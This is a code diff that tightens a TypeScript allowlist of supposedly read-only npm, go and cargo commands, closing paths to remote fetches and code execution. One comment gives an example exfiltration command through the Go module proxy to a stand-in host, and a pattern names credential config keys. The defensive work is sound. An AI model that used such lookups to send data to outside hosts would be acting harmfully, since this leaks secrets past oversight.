@@ -9,12 +9,15 @@
 //   their `--help` (builtin names only: b/c/d/r/t and the external clippy/fmt are names a repository
 //   `[alias]` redefines, `clippy = "run --"`). fmt is left out (rustfmt prints every file it walks; --check is not a walk check).
 // - go vet/build/test: cgo runs the C compiler over repository sources (an `#include` of a secret
-//   prints it in the error); go generate/run/test run code. go list/doc/mod graph/why only read.
+//   prints it in the error); go generate/run/test run code. go list/doc/mod graph/why only read,
+//   and go list without -u/-versions/PATH@VERSION (a lookup that reaches a host the command names).
 // - yarn and pnpm, even `--version`: `.yarnrc.yml` `yarnPath`/plugins and the package.json
 //   `packageManager` field (corepack may fetch and run it from a URL) make any call run repo code;
 //   pnpm also loads `.pnpmfile.cjs`. bun stays version-only (read-only.ts).
 // - npm anything where a project .npmrc exists from the cwd up, or with --prefix or bundled short
-//   options (`-wC` is `-w -C`, `-C` is --prefix): see toolchain-file.ts.
+//   options (`-wC` is `-w -C`, `-C` is --prefix): see toolchain-file.ts. The verbs that print package
+//   files, where one is a symlink or npm's project is not the repository's (npm-files.ts); registry
+//   reads of a spec that is not a registry name (`file:DIR`, a URL, a git or `user/repo` spec).
 // - npm run SCRIPT/exec/test/outdated/doctor/pack/diff/find-dupes: scripts come from package.json;
 //   outdated, doctor, diff and find-dupes may resolve git dependencies with the `git` the project's
 //   .npmrc names. docs/home/bugs/repo open a browser. token list is left out (it is about credentials).
@@ -60,7 +63,18 @@ const NPM_LS: Verb = {
   flags: ["-a", "--all", "--link", "--production", "--dev", "--package-lock-only", "--expect-results"],
   valued: ["--depth"],
 };
-const NPM_VIEW: Verb = { maxArgs: 8 };
+/**
+ * A registry package spec (`lodash`, `lodash@4`, `@scope/pkg@latest`): anything else is fetched from
+ * where it says — `file:DIR` / a path prints another directory's package.json, `https://HOST/x.tgz`
+ * asks that host, and `git+ssh://HOST/…`, `github:u/r` or the `user/repo` shorthand run git (over ssh to
+ * the host the spec names, which may receive a forwarded agent).
+ */
+const npmRegistrySpec = (w: string): boolean =>
+  !/[:\\]/.test(w) && !/^[.~/]/.test(w) && !/\.(tgz|tar)(\.gz)?$/i.test(w) && /^(@[^/@]+\/)?[^/@]+(@[^/]*)?$/.test(w);
+/** The first operand of a registry read is a package spec. */
+const registrySpecFirst = (w: string[]): string | null =>
+  w[0] === undefined || npmRegistrySpec(w[0]) ? null : `npm fetches ${w[0]} from where it says, not the registry`;
+const NPM_VIEW: Verb = { maxArgs: 8, last: registrySpecFirst };
 const npmConfigKey = (w: string[]) =>
   w.length === 1 && /^[a-z][a-z-]*$/.test(w[0] as string) && !/auth|token|pass|cert|key|email|otp/.test(w[0] as string)
     ? null
@@ -98,7 +112,7 @@ const NPM: Tool = {
     fund: { maxArgs: 1 },
     ping: { maxArgs: 0 },
     query: { maxArgs: 1 },
-    ...aliases(["owner ls", "owner list"], { maxArgs: 1 }),
+    ...aliases(["owner ls", "owner list"], { maxArgs: 1, last: registrySpecFirst }),
     ...aliases(["config list", "config ls", "c list", "c ls"], { maxArgs: 0 }),
     ...aliases(["config get", "c get", "get"], { last: npmConfigKey }),
     help: { maxArgs: 2 },
@@ -111,9 +125,9 @@ const NPM: Tool = {
     // Registry reads: toolchain-file.ts refuses them where a project .npmrc exists (it can point the
     // registry elsewhere and hand it `${ENV}` values as a token).
     ...aliases(["access list packages", "access ls packages"], { maxArgs: 1 }),
-    ...aliases(["access list collaborators", "access ls collaborators"], { maxArgs: 2 }),
-    "access get status": { maxArgs: 1 },
-    ...aliases(["dist-tag ls", "dist-tag list", "dist-tags ls"], { maxArgs: 1 }),
+    ...aliases(["access list collaborators", "access ls collaborators"], { maxArgs: 2, last: registrySpecFirst }),
+    "access get status": { maxArgs: 1, last: registrySpecFirst },
+    ...aliases(["dist-tag ls", "dist-tag list", "dist-tags ls"], { maxArgs: 1, last: registrySpecFirst }),
     "profile get": { maxArgs: 1 },
     stars: { maxArgs: 1 },
     whoami: { maxArgs: 0 },
@@ -316,10 +330,16 @@ const isort = checkOnly(
   ["--color", "-q", "--quiet", "-v", "--verbose", "--filter-files", "--only-modified"],
 );
 
+// No -u / -versions / -retracted, and no `path@version` word: those ask the module proxy, and for a
+// path it does not know (404) the default GOPROXY (`…,direct`) asks the path's own host — a request to
+// a host the command names, carrying what the command put in the path (`go list -m -versions
+// evil.test/DATA`). Without them, a module or package outside the build list is an error, not a lookup.
 const GO_BUILD_FLAGS = {
-  flags: ["-e", "-json", "-m", "-deps", "-test", "-find", "-u", "-versions", "-retracted", "-reuse"],
+  flags: ["-e", "-json", "-m", "-deps", "-test", "-find"],
   valued: ["-f", "-tags", "-mod"],
 };
+const noVersionQuery = (words: string[]): string | null =>
+  words.some((w) => w.includes("@")) ? "a path@version word is looked up on the module proxy or its host" : null;
 const GO: Tool = {
   global: { flags: ["-h", "-help", "--help"] },
   singleDash: true,
@@ -333,9 +353,10 @@ const GO: Tool = {
       ...GO_BUILD_FLAGS,
       // -mod=mod may rewrite go.mod; -compiled/-export run cgo and the compiler; -toolexec/-exec run a program.
       value: (o, v) => (o === "-mod" && v !== "readonly" && v !== "vendor" ? `-mod=${v} may rewrite go.mod` : null),
+      last: noVersionQuery,
     },
     "mod graph": { valued: ["-go"], maxArgs: 0 },
-    "mod why": { flags: ["-m", "-vendor"] },
+    "mod why": { flags: ["-m", "-vendor"], last: noVersionQuery },
     "mod verify": { maxArgs: 0 },
     help: { maxArgs: 2 },
   },
@@ -386,6 +407,19 @@ const CARGO_HELP_VERBS = [
   "vendor",
   "yank",
 ];
+/** Names clap answers itself under `cargo help` (the help-only verbs and the table's own). */
+const CARGO_BUILTIN = new Set([
+  ...CARGO_HELP_VERBS,
+  "help",
+  "version",
+  "locate-project",
+  "read-manifest",
+  "verify-project",
+  "pkgid",
+  "metadata",
+  "tree",
+  "search",
+]);
 const cargoHelpOnly: Verb = {
   maxArgs: 0,
   last: (_w, args) => (args.includes("--help") || args.includes("-h") ? null : "only the verb's --help is provable"),
@@ -397,7 +431,13 @@ const CARGO: Tool = {
     ...Object.fromEntries(CARGO_HELP_VERBS.map((v) => [v, cargoHelpOnly])),
     "": { flags: ["-V", "--version", "--list", "-v", "--verbose"], maxArgs: 0 },
     version: { flags: ["-v", "--verbose"], maxArgs: 0 },
-    help: { maxArgs: 1 },
+    // `cargo help X` runs `cargo-X --help` for a name that is not a builtin (and for a builtin name a
+    // repository `[alias]` maps to one word: toolchain-file.ts refuses it where such a config exists).
+    help: {
+      maxArgs: 1,
+      last: (w) =>
+        w.length === 0 || CARGO_BUILTIN.has(w[0] as string) ? null : `cargo help ${w[0]} runs cargo-${w[0]} --help`,
+    },
     "locate-project": { flags: ["--workspace"], valued: ["--message-format", "--manifest-path"], maxArgs: 0 },
     // toolchain-file.ts refuses these where a repository .cargo/config(.toml) exists.
     "read-manifest": { valued: ["--manifest-path"], maxArgs: 0 },
